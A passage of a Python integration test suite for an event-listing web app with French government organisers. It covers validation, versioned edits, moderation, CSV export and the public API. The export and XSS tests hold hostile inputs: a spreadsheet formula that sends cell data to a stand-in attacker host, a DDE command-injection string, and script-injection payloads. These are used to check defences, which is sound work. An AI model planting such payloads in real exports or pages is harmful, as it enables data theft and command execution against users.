"""Events through a real httpd and the real database: the organiser's forms
and space, every rule of DESIGN §7, edits with their version and history,
cancel and delete, ownership, moderation, the submission deadline, time
zones, concurrent edits, the JSON API, and bad input."""
import csv
import html
import io
import json
import re
import secrets
import threading
from datetime import datetime, timezone
from urllib.parse import urlencode

import pytest
import requests
from bson import ObjectId

from accounts_helpers import SESSION_COOKIE, configured, location_path
from events_helpers import (
    EVENT_JSON_FIELDS,
    Organiser,
    error_summary,
    event_by_title,
    event_doc,
    form_items,
    history,
    organizer_oid,
    scan_event_form,
    state,
    tag,
    valid_form,
    valid_json,
)

OID_RE = re.compile(r"^[0-9a-f]{24}$")
RFC3339_RE = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(Z|[+-]\d{2}:\d{2})$")
PAST_DEADLINE = "2000-01-01T00:00:00+00:00"


pytestmark = pytest.mark.usefixtures("database_ready")


@pytest.fixture(scope="module")
def moderator(httpd):
    """An account that is an admin while `admins_line` is configured."""
    o = Organiser(httpd, email=f"moderation.{secrets.token_hex(4)}@modernisation.gouv.fr",
                  name="Équipe Modération", organization="DITP")
    yield o
    o.close()


def admins_line(moderator):
    return f"    MoisInnoAdmins {moderator.email}"


def text_of(r):
    return html.unescape(r.text)


def utc(*a):
    return datetime(*a, tzinfo=timezone.utc)


def stored_utc(d):
    return d.replace(tzinfo=timezone.utc) if d.tzinfo is None else d


def counts(mdb):
    return mdb.events.count_documents({}), mdb.event_history.count_documents({})


def create(o, mdb, **over):
    """Creates an event through the form; returns (id, fields)."""
    r, fields = o.create_form(**over)
    assert r.status_code == 303, (r.status_code, text_of(r)[:3000])
    doc = event_by_title(mdb, fields["title"].strip())
    return str(doc["_id"]), fields


def create_api(o, **over):
    r = o.create_api(**over)
    assert r.status_code == 201, (r.status_code, r.text[:2000])
    return r.json()


def assert_redirect_to_space(httpd, r, notice):
    assert r.status_code == 303, (r.status_code, text_of(r)[:3000])
    assert location_path(r) == f"{httpd.base}/espace?ok={notice}", r.headers.get("Location")


def space_row(r, event_id):
    """The row of /espace for one event (its text)."""
    assert r.status_code == 200, r.status_code
    m = re.search(r"<tr><td><a href=\"[^\"]*/evenements/" + event_id + r"\">.*?</tr>", r.text,
                  re.S)
    assert m, f"event {event_id} is not listed on the page"
    return html.unescape(re.sub(r"<[^>]+>", " ", m.group(0)))


def api_error(r, status, code=None):
    assert r.status_code == status, (r.status_code, r.text[:2000])
    assert r.headers["Content-Type"].startswith("application/json"), r.headers["Content-Type"]
    err = r.json()["error"]
    assert err["message"], err
    if code:
        assert err["code"] == code, err
    return err


def comparable(v):
    if isinstance(v, list):
        return sorted(v)
    return (v or "").replace("\r\n", "\n").strip()


# ---- creating through the form ------------------------------------------------


def test_create_form_prefilled_from_the_account(httpd, alice):
    r = alice.get("/espace/evenements/nouveau")
    assert r.status_code == 200
    assert r.headers["Cache-Control"] == "no-store"
    form = scan_event_form(r.text)
    assert form.values["csrf"] == alice.csrf
    assert form.values["organizer_name"] == "Alice Organisatrice"
    assert form.values["organization"] == "Préfecture de la Gironde"
    for name in ("title", "summary", "description", "type", "format", "audience",
                 "accessibility", "starts_at", "ends_at", "region", "department", "city",
                 "venue", "address", "online_url", "registration_url", "lab"):
        assert name in form.values, name
        assert f'for="{name}"' in r.text or f'id="{name}"' in r.text, name
    # Departments grouped by region, usable without JavaScript.
    assert '<optgroup label="La Réunion"><option value="974"' in r.text
    assert "version" not in form.values


def test_anonymous_is_sent_to_login(httpd):
    r = requests.get(httpd.url + "/espace/evenements/nouveau", allow_redirects=False, timeout=5)
    assert r.status_code == 303
    assert location_path(r).startswith(httpd.base + "/compte/connexion?retour=")


def test_create_with_moderation_is_submitted_and_listed(httpd, mdb, alice):
    before = counts(mdb)
    r, fields = alice.create_form()
    assert_redirect_to_space(httpd, r, "soumis")
    doc = event_by_title(mdb, fields["title"])
    assert counts(mdb) == (before[0] + 1, before[1] + 1)

    assert doc["status"] == "submitted"
    assert doc["version"] == 1
    assert doc["edition"] == 2022
    assert doc["organizer_id"] == organizer_oid(mdb, alice.email)
    for k in ("summary", "type", "format", "region", "department", "city", "venue", "address",
              "registration_url", "organizer_name", "organization"):
        assert doc[k] == fields[k], k
    assert doc["description"] == fields["description"]
    assert doc["audience"] == ["agents", "elus"]
    assert doc["accessibility"] == ["moteur", "auditif"]
    assert doc["online_url"] is None
    assert doc["lab"] is True
    assert doc["timezone"] == "Europe/Paris"
    assert stored_utc(doc["starts_at"]) == utc(2022, 11, 10, 8, 0)
    assert stored_utc(doc["ends_at"]) == utc(2022, 11, 10, 11, 30)
    assert doc.get("rejection_reason") is None
    assert isinstance(doc["created_at"], datetime) and isinstance(doc["updated_at"], datetime)

    h = history(mdb, doc["_id"])
    assert [x["action"] for x in h] == ["create"]
    assert h[0]["actor"] == organizer_oid(mdb, alice.email)
    assert isinstance(h[0]["at"], datetime)

    r = alice.get("/espace?ok=soumis")
    assert "après validation" in text_of(r)
    row = space_row(r, str(doc["_id"]))
    assert fields["title"] in row
    assert "En attente de validation" in row


def test_boundary_lengths_are_counted_in_characters(httpd, mdb, alice):
    """5 and 150 characters, 300 and 10 000, 200: accepted even when every
    character takes two bytes."""
    t = tag()
    title = (t + " " + "é" * 150)[:150]
    r, fields = alice.create_form(title=title, summary="é" * 300, description="é" * 10000,
                                  city="è" * 200)
    assert r.status_code == 303, text_of(r)[:3000]
    doc = event_by_title(mdb, title)
    assert len(doc["title"]) == 150 and len(doc["summary"]) == 300
    assert len(doc["description"]) == 10000 and len(doc["city"]) == 200
    r, _ = alice.create_form(title="Forum")
    assert r.status_code == 303, text_of(r)[:3000]


# Every rule of DESIGN §7 on the form: (id, changes, fields in error).
RULES = [
    ("title too short", {"title": "Abcd"}, ["title"]),
    ("title of 4 two-byte characters", {"title": "éééé"}, ["title"]),
    ("title over 150 characters", {"title": "x" * 151}, ["title"]),
    ("title missing", {"title": None}, ["title"]),
    ("title of blanks", {"title": "      "}, ["title"]),
    ("control character in the title", {"title": "Atelier\x01 de test"}, ["title"]),
    ("summary empty", {"summary": ""}, ["summary"]),
    ("summary over 300 characters", {"summary": "é" * 301}, ["summary"]),
    ("description over 10000 characters", {"description": "d" * 10001}, ["description"]),
    ("type missing", {"type": ""}, ["type"]),
    ("type unknown", {"type": "concert"}, ["type"]),
    ("format unknown", {"format": "mixte"}, ["format"]),
    ("no audience", {"audience": []}, ["audience"]),
    ("audience unknown", {"audience": ["agents", "tous"]}, ["audience"]),
    ("accessibility unknown", {"accessibility": ["cognitif"]}, ["accessibility"]),
    ("start missing", {"starts_at": ""}, ["starts_at"]),
    ("end missing", {"ends_at": None}, ["ends_at"]),
    ("end before start", {"ends_at": "2022-11-10T08:00"}, ["ends_at"]),
    ("end equal to start", {"ends_at": "2022-11-10T09:00"}, ["ends_at"]),
    ("start before the edition", {"starts_at": "2022-11-01T23:30"}, ["starts_at"]),
    ("end after the edition", {"ends_at": "2022-12-01T00:30"}, ["ends_at"]),
    ("1 December in Réunion (30 November in Paris)",
     {"region": "04", "department": "974", "starts_at": "2022-12-01T01:00",
      "ends_at": "2022-12-01T02:00"}, ["starts_at", "ends_at"]),
    ("impossible date and time", {"starts_at": "2022-02-30T25:61"}, ["starts_at"]),
    ("31 November", {"ends_at": "2022-11-31T11:00"}, ["ends_at"]),
    ("not a date", {"starts_at": "10/11/2022 09:00"}, ["starts_at"]),
    ("in person without region and department", {"region": "", "department": ""},
     ["region", "department"]),
    ("in person without city", {"city": ""}, ["city"]),
    ("in person without address", {"address": "   "}, ["address"]),
    ("hybrid without address",
     {"format": "hybride", "address": "", "online_url": "https://visio.exemple.gouv.fr/salle"},
     ["address"]),
    ("hybrid without any link", {"format": "hybride", "registration_url": ""}, ["online_url"]),
    ("online without any link",
     {"format": "en_ligne", "registration_url": "", "online_url": ""}, ["online_url"]),
    ("ftp link", {"format": "en_ligne", "online_url": "ftp://exemple.gouv.fr/salle"},
     ["online_url"]),
    ("javascript link", {"registration_url": "javascript:alert(1)"}, ["registration_url"]),
    ("relative link", {"registration_url": "/inscription"}, ["registration_url"]),
    ("link without host", {"registration_url": "https://"}, ["registration_url"]),
    ("link with a space", {"registration_url": "https://exemple.gouv.fr/a b"},
     ["registration_url"]),
    ("unknown region", {"region": "99"}, ["region"]),
    ("department of another region", {"region": "11"}, ["department"]),
    ("unknown department", {"department": "999"}, ["department"]),
    ("city over 200 characters", {"city": "V" * 201}, ["city"]),
    ("organiser name empty", {"organizer_name": ""}, ["organizer_name"]),
    ("organisation missing", {"organization": None}, ["organization"]),
    ("lab other than 1", {"lab": "oui"}, ["lab"]),
]


@pytest.mark.parametrize("what,changes,fields", RULES, ids=[r[0] for r in RULES])
def test_form_rule_is_422_filled_back_nothing_written(httpd, mdb, alice, what, changes, fields):
    before = counts(mdb)
    submitted = valid_form(**changes)
    r = alice.post_form("/espace/evenements/nouveau", submitted)
    assert r.status_code == 422, (r.status_code, text_of(r)[:3000])
    assert r.headers["Content-Type"].startswith("text/html")
    assert counts(mdb) == before, "a refused form wrote to the database"

    # The summary at the top links each field in error.
    summary = error_summary(r.text)
    assert summary and 'role="alert"' in summary, r.text[:3000]
    assert "Le formulaire contient" in summary
    assert r.text.index('class="erreurs"') < r.text.index("<form method=\"post\" action=\"" +
                                                         httpd.base + "/espace/evenements/nouveau")
    page = scan_event_form(r.text)
    for f in fields:
        assert f'href="#{f}"' in summary, (f, summary)
        assert f in page.ids, f"no element with id {f} for the summary's link"
        # The message beside the field, tied to it for assistive technologies.
        assert f"{f}-erreur" in page.ids, f"no error message beside the field {f}"
        _, attrs = page.ids[f]
        assert f"{f}-erreur" in (attrs.get("aria-describedby") or ""), (f, attrs)
    # The form comes back filled in with what was typed.
    assert page.values["csrf"] == alice.csrf
    for name in submitted:
        if name in fields:
            continue
        shown = page.values.get(name)
        want = submitted[name]
        if name == "lab":
            assert shown == (["1"] if want == "1" else []), (name, shown)
            continue
        assert comparable(shown) == comparable(want), (name, shown, want)


def test_double_submission_creates_two_events(httpd, mdb, alice):
    fields = valid_form()
    items = form_items(fields, csrf=alice.csrf)
    r1 = alice.c.post("/espace/evenements/nouveau", items)
    r2 = alice.c.post("/espace/evenements/nouveau", items)
    assert r1.status_code == 303 and r2.status_code == 303, (r1.status_code, r2.status_code)
    docs = list(mdb.events.find({"title": fields["title"]}))
    assert len(docs) == 2
    assert len({d["_id"] for d in docs}) == 2
    assert all(d["status"] == "submitted" and d["version"] == 1 for d in docs)
    r = alice.get("/espace")
    for d in docs:
        space_row(r, str(d["_id"]))


# ---- editing, cancelling, deleting ----------------------------------------------------


def test_edit_with_the_right_version_writes_history(httpd, mdb, alice):
    eid, fields = create(alice, mdb)
    r = alice.get(f"/espace/evenements/{eid}/modifier")
    assert r.status_code == 200
    assert r.headers["Cache-Control"] == "no-store"
    page = scan_event_form(r.text)
    assert page.values["version"] == "1"
    assert page.values["title"] == fields["title"]
    assert page.values["starts_at"] == "2022-11-10T09:00"
    assert page.values["department"] == "33"
    assert sorted(page.values["audience"]) == ["agents", "elus"]

    new = dict(fields, title=fields["title"] + " (modifié)", city="Mérignac",
               audience=["agents", "usagers"])
    r = alice.edit_form(eid, new, version=1)
    assert_redirect_to_space(httpd, r, "modifie")
    doc = event_doc(mdb, eid)
    assert doc["version"] == 2
    assert doc["title"] == new["title"] and doc["city"] == "Mérignac"
    assert doc["audience"] == ["agents", "usagers"]
    assert doc["status"] == "submitted"
    assert doc["updated_at"] >= doc["created_at"]

    h = history(mdb, eid)
    assert [x["action"] for x in h] == ["create", "update"]
    assert sorted(h[1]["fields"]) == ["audience", "city", "title"]
    assert h[1]["actor"] == organizer_oid(mdb, alice.email)
    assert h[1]["event_id"] == ObjectId(eid)

    # The edit page shows the history.
    r = alice.get(f"/espace/evenements/{eid}/modifier")
    assert scan_event_form(r.text).values["version"] == "2"
    t = text_of(r)
    assert "Historique" in t and "Modification" in t and "Création" in t
    assert "title" in t[t.index("Historique"):]


def test_edit_with_a_stale_version_is_409_with_the_current_values(httpd, mdb, alice):
    eid, fields = create(alice, mdb)
    current = dict(fields, title=fields["title"] + " v2")
    assert alice.edit_form(eid, current, version=1).status_code == 303
    before = state(mdb, eid)

    stale = dict(fields, title="Titre d'un onglet périmé " + tag(), city="Pessac")
    r = alice.edit_form(eid, stale, version=1)
    assert r.status_code == 409, (r.status_code, text_of(r)[:2000])
    assert state(mdb, eid) == before
    page = scan_event_form(r.text)
    assert page.values["title"] == current["title"], "the 409 page does not show the current values"
    assert page.values["city"] == "Bordeaux"
    assert page.values["version"] == "2"
    assert "modifié entre-temps" in text_of(r)
    assert stale["title"] not in text_of(r)

    # Missing or malformed version: not taken as the current one.
    for v in (None, "", "abc", "0", "-1", "2.0"):
        items = [("version", v)] if v is not None else []
        items += form_items(dict(current, title=current["title"] + " x"))
        r = alice.post_form(f"/espace/evenements/{eid}/modifier", items)
        assert r.status_code == 409, (v, r.status_code)
    assert state(mdb, eid) == before


def test_delete_of_a_submitted_event_removes_it(httpd, mdb, alice):
    eid, _ = create(alice, mdb)
    r = alice.delete_form(eid, version=2)
    assert r.status_code == 409  # stale version
    assert event_doc(mdb, eid) is not None
    r = alice.delete_form(eid, version=1)
    assert_redirect_to_space(httpd, r, "supprime")
    assert event_doc(mdb, eid) is None
    assert [x["action"] for x in history(mdb, eid)] == ["create", "delete"]
    assert f"/evenements/{eid}" not in alice.get("/espace").text
    assert alice.get(f"/espace/evenements/{eid}/modifier").status_code == 404
    assert alice.delete_form(eid, version=1).status_code == 404


def test_cancel_of_a_submitted_event(httpd, mdb, alice):
    eid, fields = create(alice, mdb)
    r = alice.cancel_form(eid, version=1)
    assert_redirect_to_space(httpd, r, "annule")
    doc = event_doc(mdb, eid)
    assert doc["status"] == "cancelled" and doc["version"] == 2
    assert history(mdb, eid)[-1]["action"] == "cancel"
    before = state(mdb, eid)
    # A cancelled event cannot be edited nor cancelled again.
    r = alice.edit_form(eid, dict(fields, title=fields["title"] + " bis"), version=2)
    assert r.status_code == 409, (r.status_code, text_of(r)[:1000])
    assert "annulé" in text_of(r)
    assert alice.cancel_form(eid, version=2).status_code == 409
    r = alice.api("PATCH", f"/{eid}", {"title": "Nouveau titre après annulation"})
    api_error(r, 409)
    r = alice.api("PUT", f"/{eid}", valid_json())
    api_error(r, 409)
    assert state(mdb, eid) == before


# ---- ownership ----------------------------------------------------------------------------


def test_another_organiser_cannot_touch_an_event(httpd, mdb, alice, bob):
    eid, fields = create(alice, mdb)
    before = state(mdb, eid)
    answers = {
        "edit page": bob.get(f"/espace/evenements/{eid}/modifier"),
        "edit": bob.edit_form(eid, dict(fields, title="Pris par Bob " + tag()), version=1),
        "cancel": bob.cancel_form(eid, version=1),
        "delete": bob.delete_form(eid, version=1),
        "API GET": bob.api("GET", f"/{eid}"),
        "API PUT": bob.api("PUT", f"/{eid}", valid_json(title="Pris par Bob " + tag())),
        "API PATCH": bob.api("PATCH", f"/{eid}", {"title": "Pris par Bob " + tag()}),
        "API DELETE": bob.api("DELETE", f"/{eid}"),
        "API GET anonymous": requests.get(f"{httpd.url}/api/v1/events/{eid}", timeout=5),
    }
    for what, r in answers.items():
        assert r.status_code in (403, 404), (what, r.status_code, r.text[:300])
        assert fields["title"] not in r.text, what
    assert state(mdb, eid) == before
    assert f"/evenements/{eid}" not in bob.get("/espace").text


# ---- moderation -----------------------------------------------------------------------------


@pytest.fixture(scope="class")
def with_admins(httpd, moderator):
    with configured(httpd, admins_line(moderator)):
        yield moderator


def admin_post(admin, eid, action, **fields):
    doc_version = fields.pop("version", None)
    items = [("version", str(doc_version))] if doc_version is not None else []
    items += list(fields.items())
    return admin.post_form(f"/admin/evenements/{eid}/{action}", items)


@pytest.mark.usefixtures("with_admins")
class TestModeration:
    def test_queue_and_counts(self, httpd, mdb, alice, moderator):
        eid, fields = create(alice, mdb, format="hybride",
                             online_url="https://visio.exemple.gouv.fr/salle",
                             type="table_ronde")
        r = moderator.get("/admin")
        assert r.status_code == 200, r.status_code
        assert r.headers["Cache-Control"] == "no-store"
        t = text_of(r)
        for caption in ("Par statut", "Par région", "Par format", "Par type"):
            assert caption in t, caption
        assert "En attente de validation" in t
        assert "Nouvelle-Aquitaine" in t and "Hybride" in t and "Table ronde" in t
        assert fields["title"] in t
        assert f'action="{httpd.base}/admin/evenements/{eid}/publier"' in r.text
        assert f'action="{httpd.base}/admin/evenements/{eid}/refuser"' in r.text
        r = moderator.get("/admin?statut=submitted")
        assert r.status_code == 200 and fields["title"] in text_of(r)
        r = moderator.get("/admin?statut=published")
        assert r.status_code == 200 and fields["title"] not in text_of(r)
        assert moderator.get("/admin?statut=tout").status_code == 400

    def test_publish(self, httpd, mdb, alice, moderator):
        eid, fields = create(alice, mdb)
        assert requests.get(f"{httpd.url}/api/v1/events/{eid}", timeout=5).status_code == 404
        r = admin_post(moderator, eid, "publier", version=1)
        assert r.status_code == 303, (r.status_code, text_of(r)[:1000])
        assert location_path(r) == f"{httpd.base}/admin?ok=publie"
        doc = event_doc(mdb, eid)
        assert doc["status"] == "published" and doc["version"] == 2
        h = history(mdb, eid)[-1]
        assert h["action"] == "publish" and h["actor"] == organizer_oid(mdb, moderator.email)
        assert "Publié" in space_row(alice.get("/espace"), eid)
        r = requests.get(f"{httpd.url}/api/v1/events/{eid}", timeout=5)
        assert r.status_code == 200 and r.json()["status"] == "published"
        # Publishing twice, or with a stale version: a conflict, nothing changed.
        before = state(mdb, eid)
        assert admin_post(moderator, eid, "publier", version=2).status_code == 409
        assert state(mdb, eid) == before

    def test_refuse_needs_a_reason_then_resubmit(self, httpd, mdb, alice, moderator):
        eid, fields = create(alice, mdb)
        before = state(mdb, eid)
        for reason in (None, "", "    ", "x" * 1001, "motif\x01"):
            extra = {"reason": reason} if reason is not None else {}
            r = admin_post(moderator, eid, "refuser", version=1, **extra)
            assert r.status_code == 422, (reason, r.status_code)
            assert "motif" in text_of(r).lower()
        assert state(mdb, eid) == before

        reason = "Précisez l'adresse exacte & le public visé <merci>."
        r = admin_post(moderator, eid, "refuser", version=1, reason=reason)
        assert r.status_code == 303, (r.status_code, text_of(r)[:1000])
        assert location_path(r) == f"{httpd.base}/admin?ok=refuse"
        doc = event_doc(mdb, eid)
        assert doc["status"] == "rejected" and doc["rejection_reason"] == reason
        assert history(mdb, eid)[-1]["action"] == "reject"

        r = alice.get("/espace")
        row = space_row(r, eid)
        assert "Refusé" in row and reason in row
        assert "<merci>" not in r.text
        r = alice.get(f"/espace/evenements/{eid}/modifier")
        assert reason in text_of(r)
        # Not public.
        r = requests.get(f"{httpd.url}/api/v1/events", params={"q": fields["title"].split()[-1]},
                         timeout=5)
        assert r.status_code == 200 and r.json()["total"] == 0

        r = alice.edit_form(eid, dict(fields, address="3 esplanade Charles-de-Gaulle"), version=2)
        assert_redirect_to_space(httpd, r, "soumis")
        doc = event_doc(mdb, eid)
        assert doc["status"] == "submitted" and doc["version"] == 3
        assert doc.get("rejection_reason") is None
        h = history(mdb, eid)[-1]
        assert h["action"] in ("submit", "update") and "address" in h["fields"]
        assert "Refusé" not in space_row(alice.get("/espace"), eid)

    def test_organiser_cannot_moderate(self, httpd, mdb, alice, moderator):
        eid, _ = create(alice, mdb)
        before = state(mdb, eid)
        assert admin_post(alice, eid, "publier", version=1).status_code == 403
        assert admin_post(alice, eid, "refuser", version=1, reason="non").status_code == 403
        assert alice.get("/admin").status_code == 403
        assert alice.get("/admin/export.csv").status_code == 403
        r = requests.post(f"{httpd.url}/admin/evenements/{eid}/publier", data={"version": "1"},
                          allow_redirects=False, timeout=5)
        assert r.status_code in (303, 401, 403)
        # The admin needs the CSRF token too.
        r = moderator.c.post(f"/admin/evenements/{eid}/publier", {"version": "1"})
        assert r.status_code == 403
        assert state(mdb, eid) == before
        r = admin_post(moderator, "000000000000000000000000", "publier")
        assert r.status_code == 404
        r = admin_post(moderator, "zzz", "publier")
        assert r.status_code == 404

    def test_admin_may_edit_cancel_and_delete_any_event(self, httpd, mdb, alice, moderator):
        eid, fields = create(alice, mdb)
        r = moderator.get(f"/espace/evenements/{eid}/modifier")
        assert r.status_code == 200 and scan_event_form(r.text).values["title"] == fields["title"]
        r = moderator.edit_form(eid, dict(fields, venue="Salle du conseil"), version=1)
        assert r.status_code == 303, (r.status_code, text_of(r)[:1000])
        assert event_doc(mdb, eid)["venue"] == "Salle du conseil"
        assert history(mdb, eid)[-1]["actor"] == organizer_oid(mdb, moderator.email)
        assert admin_post(moderator, eid, "publier", version=2).status_code == 303
        r = moderator.cancel_form(eid, version=3)
        assert r.status_code == 303
        assert event_doc(mdb, eid)["status"] == "cancelled"
        eid2, _ = create(alice, mdb)
        r = moderator.api("DELETE", f"/{eid2}")
        assert r.status_code == 204, r.text
        assert event_doc(mdb, eid2) is None

    def test_export_csv(self, httpd, mdb, alice, moderator):
        formula = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
        eid, fields = create(alice, mdb, title=formula, organization="@SUM(1+1)*cmd",
                             city="+33 Bordeaux", venue="-2+3+cmd|' /C calc'!A0")
        r = moderator.get("/admin/export.csv")
        assert r.status_code == 200, r.status_code
        assert r.headers["Content-Type"].startswith("text/csv")
        assert r.headers["Cache-Control"] == "no-store"
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8"))))
        header = rows[0]
        for col in ("id", "titre", "statut", "contact_email"):
            assert col in header, header
        data = rows[1:]
        assert all(len(row) == len(header) for row in data)
        assert len(data) == mdb.events.count_documents({"edition": 2022})
        ids = [row[header.index("id")] for row in data]
        assert len(ids) == len(set(ids))
        mine = [row for row in data if row[header.index("id")] == eid]
        assert len(mine) == 1
        row = dict(zip(header, mine[0]))
        assert row["contact_email"] == alice.email.lower()
        assert row["titre"].lstrip("'\t ") == formula
        for row in data:
            for cell in row:
                assert not cell or cell[0] not in "=+-@", (cell, row)

    def test_xss_is_stored_as_typed_and_escaped(self, httpd, mdb, alice, moderator):
        t = tag()
        title = f'<script>alert("titre")</script> {t}'
        desc = "<img src=x onerror=alert(1)> & <b>gras</b>"
        city = '"><svg onload=alert(1)>'
        eid, _ = create(alice, mdb, title=title, description=desc, city=city,
                        organization="<i>Org</i>")
        doc = event_doc(mdb, eid)
        assert doc["title"] == title and doc["description"] == desc and doc["city"] == city
        pages = {
            "espace": alice.get("/espace"),
            "edit": alice.get(f"/espace/evenements/{eid}/modifier"),
            "admin": moderator.get("/admin"),
        }
        for what, r in pages.items():
            assert r.status_code == 200, what
            assert "<script>alert" not in r.text, what
            assert "<svg" not in r.text and "<img src=x" not in r.text, what
            assert "<i>Org</i>" not in r.text, what
            assert "&lt;script&gt;alert(" in r.text, what
        page = scan_event_form(pages["edit"].text)
        assert page.values["title"] == title and page.values["city"] == city
        assert page.values["description"] == desc
        r = alice.api("GET", f"/{eid}")
        assert r.json()["title"] == title and r.json()["description"] == desc


# ---- without moderation: published events, the public list and its filters -------------


@pytest.fixture(scope="class")
def catalogue(httpd, mdb, alice):
    """A submitted event, then (moderation off) five published events of
    which one is cancelled; all share one search word."""
    word = tag()
    cat = {"word": word}
    cat["S"] = create_api(alice, title=f"Événement en attente {word}")
    with configured(httpd, "    MoisInnoModeration Off"):
        cat["E1"] = create_api(alice, title=f"Hackathon des données {word}", format="presentiel",
                               type="atelier_participatif", audience=["agents"],
                               region="75", department="33", city="Bordeaux",
                               address="1 cours de l'Intendance", online_url=None, lab=True,
                               starts_at="2022-11-03T10:00:00+01:00",
                               ends_at="2022-11-03T12:00:00+01:00")
        cat["E2"] = create_api(alice, title=f"Webinaire national {word}", type="webinaire",
                               audience=["grand_public"], starts_at="2022-11-15T14:00:00+01:00",
                               ends_at="2022-11-15T15:00:00+01:00")
        cat["E3"] = create_api(alice, title=f"Nuit de l'innovation {word}", format="hybride",
                               type="table_ronde", audience=["elus", "agents"], region="04",
                               department="974", city="Saint-Denis", address="Rue de Paris",
                               summary="Rencontre des élus réunionnais.",
                               starts_at="2022-11-21T02:00:00+04:00",
                               ends_at="2022-11-21T04:00:00+04:00")
        cat["E4"] = create_api(alice, title=f"Visite du laboratoire {word}", format="presentiel",
                               type="visite", audience=["usagers"], region="11",
                               department="75", city="Paris", address="20 avenue de Ségur",
                               online_url=None, lab=True,
                               starts_at="2022-11-28T09:00:00+01:00",
                               ends_at="2022-11-29T12:00:00+01:00")
        cat["E5"] = create_api(alice, title=f"Conférence régionale {word}", type="conference",
                               audience=["encadrants"], region="84",
                               starts_at="2022-11-15T09:00:00+01:00",
                               ends_at="2022-11-15T10:00:00+01:00")
        r = alice.cancel_form(cat["E4"]["id"], version=1)
        assert r.status_code == 303, (r.status_code, text_of(r)[:1000])
        yield cat


def listing(httpd, **params):
    r = requests.get(f"{httpd.url}/api/v1/events", params=params, timeout=10)
    assert r.status_code == 200, (params, r.status_code, r.text[:1000])
    return r.json()


@pytest.mark.usefixtures("catalogue")
class TestWithoutModeration:
    def test_new_events_are_published_at_once(self, httpd, mdb, alice, catalogue):
        r, fields = alice.create_form()
        assert_redirect_to_space(httpd, r, "cree")
        doc = event_by_title(mdb, fields["title"])
        assert doc["status"] == "published"
        assert "Publié" in space_row(alice.get("/espace"), str(doc["_id"]))
        for k in ("E1", "E2", "E3", "E5"):
            assert catalogue[k]["status"] == "published"
        assert catalogue["S"]["status"] == "submitted"
        assert event_doc(mdb, catalogue["E4"]["id"])["status"] == "cancelled"

    def test_published_event_is_cancelled_not_deleted(self, httpd, mdb, alice, catalogue):
        eid = create_api(alice)["id"]
        before = state(mdb, eid)
        r = alice.delete_form(eid, version=1)
        assert r.status_code == 409, r.status_code
        assert "annulez" in text_of(r)
        api_error(alice.api("DELETE", f"/{eid}"), 409)
        assert state(mdb, eid) == before
        r = alice.cancel_form(eid, version=1)
        assert_redirect_to_space(httpd, r, "annule")
        assert event_doc(mdb, eid)["status"] == "cancelled"
        assert "Annulé" in space_row(alice.get("/espace"), eid)
        # Public, marked cancelled.
        r = requests.get(f"{httpd.url}/api/v1/events/{eid}", timeout=5)
        assert r.status_code == 200 and r.json()["status"] == "cancelled"

    def test_another_organiser_cannot_change_a_published_event(self, httpd, mdb, alice, bob,
                                                                catalogue):
        eid = catalogue["E1"]["id"]
        before = state(mdb, eid)
        r = bob.api("GET", f"/{eid}")
        assert r.status_code == 200  # public
        for what, r in {
            "edit page": bob.get(f"/espace/evenements/{eid}/modifier"),
            "edit": bob.edit_form(eid, valid_form(), version=1),
            "cancel": bob.cancel_form(eid, version=1),
            "delete": bob.delete_form(eid, version=1),
            "API PUT": bob.api("PUT", f"/{eid}", valid_json()),
            "API PATCH": bob.api("PATCH", f"/{eid}", {"title": "Pris par Bob " + tag()}),
            "API DELETE": bob.api("DELETE", f"/{eid}"),
        }.items():
            assert r.status_code in (403, 404), (what, r.status_code)
        assert state(mdb, eid) == before

    def test_list_shows_published_and_cancelled_only(self, httpd, catalogue):
        doc = listing(httpd, q=catalogue["word"])
        assert set(doc) == {"total", "page", "per_page", "events"}
        assert doc["total"] == 5 and doc["page"] == 1 and doc["per_page"] == 20
        ids = [e["id"] for e in doc["events"]]
        want = [catalogue[k]["id"] for k in ("E1", "E5", "E2", "E3", "E4")]
        assert ids == want, "not the public events sorted by starts_at"
        statuses = {e["id"]: e["status"] for e in doc["events"]}
        assert statuses[catalogue["E4"]["id"]] == "cancelled"
        assert catalogue["S"]["id"] not in ids
        for e in doc["events"]:
            assert set(e) == EVENT_JSON_FIELDS

    def test_paging(self, httpd, catalogue):
        seen = []
        for page, n in ((1, 2), (2, 2), (3, 1), (4, 0)):
            doc = listing(httpd, q=catalogue["word"], per_page=2, page=page)
            assert (doc["total"], doc["page"], doc["per_page"]) == (5, page, 2)
            assert len(doc["events"]) == n, page
            seen += [e["id"] for e in doc["events"]]
        assert seen == [catalogue[k]["id"] for k in ("E1", "E5", "E2", "E3", "E4")]
        assert listing(httpd, q=catalogue["word"], per_page=100)["per_page"] == 100

    FILTERS = [
        ({"region": "75"}, ["E1"]),
        ({"region": "national"}, ["E2"]),
        ({"region": ["75", "04"]}, ["E1", "E3"]),
        ({"departement": "974"}, ["E3"]),
        ({"format": "en_ligne"}, ["E5", "E2"]),
        ({"format": ["en_ligne", "hybride"]}, ["E5", "E2", "E3"]),
        ({"type": "table_ronde"}, ["E3"]),
        ({"public": "agents"}, ["E1", "E3"]),
        ({"public": ["usagers", "encadrants"]}, ["E5", "E4"]),
        ({"lab": "1"}, ["E1", "E4"]),
        ({"du": "2022-11-15", "au": "2022-11-15"}, ["E5", "E2"]),
        ({"du": "2022-11-29"}, ["E4"]),
        ({"au": "2022-11-03"}, ["E1"]),
        ({"du": "2022-11-21", "au": "2022-11-21"}, ["E3"]),  # 20 November in UTC and Paris
        ({"du": "2022-11-20", "au": "2022-11-20"}, []),
        ({"q+": "hackathon"}, ["E1"]),
        ({"q+": "ÉLUS"}, ["E3"]),
        ({"format": "presentiel", "lab": "1"}, ["E1", "E4"]),
        ({"region": "75", "format": "en_ligne"}, []),
    ]

    @pytest.mark.parametrize("params,want", FILTERS, ids=[str(f[0]) for f in FILTERS])
    def test_filters(self, httpd, catalogue, params, want):
        params = dict(params)
        q = catalogue["word"]
        if "q+" in params:
            q += " " + params.pop("q+")
        doc = listing(httpd, q=q, **params)
        got = [e["id"] for e in doc["events"]]
        assert got == [catalogue[k]["id"] for k in want], (params, doc)
        assert doc["total"] == len(want)

    BAD_FILTERS = [
        ("region", "99"), ("departement", "999"), ("format", "concert"), ("type", "fete"),
        ("public", "tous"), ("du", "2022-13-01"), ("au", "demain"), ("lab", "2"),
        ("page", "0"), ("page", "x"), ("per_page", "101"), ("per_page", "0"),
        ("per_page", "dix"),
    ]

    @pytest.mark.parametrize("name,value", BAD_FILTERS)
